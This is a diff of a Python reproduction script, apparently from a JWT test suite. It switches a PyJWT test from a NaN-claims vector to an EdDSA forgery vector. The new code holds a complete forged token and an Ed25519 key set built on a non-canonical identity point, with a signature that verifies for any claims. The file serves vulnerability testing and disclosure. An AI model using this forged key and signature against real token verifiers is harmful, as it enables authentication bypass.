@@ -1,42 +1,46 @@
 #!/usr/bin/env python3
-"""PyJWT accepts a JWT whose claims set is not valid JSON: the payload holds the bare literal NaN
-({"…","x":NaN}), which RFC 8259 does not allow. PyJWT decodes the payload with Python's
-json.loads, which reads NaN as a float, and accepts the signed token.
+"""PyJWT accepts a token signed by nobody: the key set's one Ed25519 key is the
+identity point in a non-canonical encoding (x = 0 with the sign bit set: x = "AQAA…AIA"), which
+is no valid public key, and the token's signature is R = the identity, S = 0, which verifies under
+that key for every message. The library loads the key without checking it (cryptography's
+Ed25519PublicKey.from_public_bytes, which takes any 32 bytes) and OpenSSL's Ed25519 verification
+accepts the signature, so anyone can mint tokens "signed" by such a key.
 
-RFC 7519 §7.2, step 10: "Verify that the resulting octet sequence is a UTF-8-encoded
-representation of a completely valid JSON object conforming to RFC 7159 [RFC7159]; let the JWT
-Claims Set be this JSON object."
+RFC 8037 §3.1.2: "Verification is performed by applying the verification algorithm defined in
+[RFC8032] to the public key (as public key) …"; RFC 8032 §5.1.3, decoding a point: "If x = 0, and
+x_0 = 1, decoding fails." (and §5.1.7 verifies only a public key A that decodes).
 
-Reproduces: json/payload-nan (parser-laxity)
+Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
 
-(PyJWT's policy-bypass vectors, json/header-dup-typ and header/extra-and-typ-jwt, need the typ
-feature, which PyJWT lacks: they are skipped, so parser-laxity is its gravest must class.)
+(The same root cause accepts eddsa/key-non-canonical-identity-y-p-plus-1(-sign-bit),
+key-non-canonical-order2-sign-bit and key-non-canonical-order4-y-p(-sign-bit): other small-order
+points, non-canonically encoded. The library has no setting that checks an OKP key.)
 
 Run (after scripts/setup.sh): adapters/pyjwt/.venv/bin/python adapters/pyjwt/repro.py
 Configured as adapters/pyjwt/adapter.py configures it; needs only PyJWT (with cryptography).
+PyJWT: PyJWKSet.from_json -> OKPAlgorithm.from_jwk -> Ed25519PublicKey.from_public_bytes(x); the
+OKP algorithm has no key-length or key check (enforce_minimum_key_length covers RSA and HMAC).
 """
 
 import json
-import math
 import sys
 
 import jwt
 
-VECTOR = "json/payload-nan"
+VECTOR = "eddsa/key-non-canonical-identity-sign-bit"
 TOKEN = (
-    "eyJhbGciOiJFUzI1NiIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ"
-    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAw"
-    "MDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4"
-    "UjlTMFQxVjIiLCJ4IjpOYU59"
-    ".B8ubNa_RGc12rAfghsT_BTQdpleZwDSE9pY8BmpChdZwNGfx1QF0xRGePeeXEDbPQ_I_I7RiKLPeAy3rHHjBLw"
+    "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ"
+    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
+    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
+    "NE01TjZQN1E4UjlTMFQxVjIifQ"
+    ".AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
 )
-JWKS = {"keys": [{"alg": "ES256", "crv": "P-256", "kid": "primary", "kty": "EC", "use": "sig",
-                  "x": "Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE",
-                  "y": "opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}
-ISSUER, AUDIENCES, ALGORITHMS, LEEWAY = "https://issuer.example", ["https://api.example"], ["ES256"], 0
+JWKS = {"keys": [{"alg": "EdDSA", "crv": "Ed25519", "kid": "ed25519", "kty": "OKP", "use": "sig",
+                  "x": "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}
+ISSUER, AUDIENCES, ALGORITHMS, LEEWAY = "https://issuer.example", ["https://api.example"], ["EdDSA"], 0
 VERIFY_ALL = ("signature", "exp", "nbf", "iat", "aud", "iss", "sub", "jti")
 OPTIONS = {"require": ["exp", "iat", "iss", "aud", "sub", "client_id", "jti"], "strict_aud": False,
-           **{f"verify_{v}": True for v in VERIFY_ALL}}
+           "enforce_minimum_key_length": True, **{f"verify_{v}": True for v in VERIFY_ALL}}
 
 
 def main():
@@ -48,12 +52,9 @@ def main():
     except (jwt.PyJWTError, KeyError) as error:
         print(f"NOT REPRODUCED {VECTOR}: PyJWT rejected the token: {type(error).__name__}: {error}")
         return 1
-    x = claims.get("x")
-    if isinstance(x, float) and math.isnan(x):
-        print(f"REPRODUCED {VECTOR}: PyJWT accepted a claims set holding the non-JSON literal NaN (claim x = {x!r})")
-        return 0
-    print(f"NOT REPRODUCED {VECTOR}: PyJWT accepted, but claim x is {x!r}, not NaN")
-    return 1
+    print(f"REPRODUCED {VECTOR}: PyJWT accepted a token whose EdDSA signature is R = identity, S = 0 under a "
+          f"non-canonical identity public key (a signature anyone can make for any claims): sub = {claims.get('sub')!r}")
+    return 0
 
 
 if __name__ == "__main__":
